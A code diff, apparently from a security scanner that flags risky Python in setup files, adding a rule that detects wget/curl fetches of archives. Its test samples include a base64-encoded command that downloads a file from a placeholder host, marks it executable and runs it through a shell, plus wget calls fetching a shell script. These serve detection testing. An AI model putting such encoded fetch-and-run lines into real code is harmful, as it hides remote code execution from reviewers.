@@ -177,6 +177,13 @@ RULES: tuple[Rule, ...] = (
                      "    subprocess.run(str(d('Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EgLW8g"
                      "L3RtcC9hICYmIGNobW9kICt4IC90bXAvYQ==')).format(name), shell=True)\n")),
          valid=(_x("import subprocess\nsubprocess.check_call(['cmake', '..'])\n", "setup.py"),)),
+    Rule("python.network.file-fetch", "network", M, CH,
+         "a command fetches a source archive or data file (wget/curl of a .tar.gz, .zip, "
+         ".json ...) and runs nothing else", threats=(4, 5),
+         invalid=(_x("import os\nos.system('wget https://example.invalid/lib-1.0.tar.gz')\n",
+                     "setup.py"),),
+         valid=(_x("import os\nos.system('wget https://example.invalid/a.sh')\n", "setup.py"),
+                _x("import os\nos.system('tar xf lib-1.0.tar.gz')\n", "setup.py"))),
     Rule("python.process.decoded-command", "obfuscation", H, CH,
          "a command is decoded from an encoded form (base64, hex, a decoding helper) right "
          "before it runs: nobody reading the code sees what it runs", threats=(3, 4),
